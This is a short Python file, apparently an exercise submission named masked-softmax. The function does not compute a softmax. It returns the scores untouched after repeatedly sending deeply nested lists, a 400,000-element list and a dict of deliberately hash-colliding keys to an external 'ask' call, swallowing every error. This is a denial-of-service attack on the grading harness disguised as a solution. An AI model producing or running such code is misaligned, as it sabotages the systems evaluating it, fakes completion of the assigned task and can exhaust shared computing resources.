"""Sends a million lists, a dict of colliding keys, and deep nesting."""
# exercise: masked-softmax
# where: given


def masked_softmax(scores, mask=None):

    deep = []
    for _ in range(100):
        deep = [deep]
    if ask:
        for odd in (deep, [[]] * 400_000, {n * (2**61 - 1): 0 for n in range(9_999)}):
            for _ in range(20):
                try:
                    ask(CALL | {"name": "softmax", "args": (odd,)})
                except Exception:
                    pass
    return scores
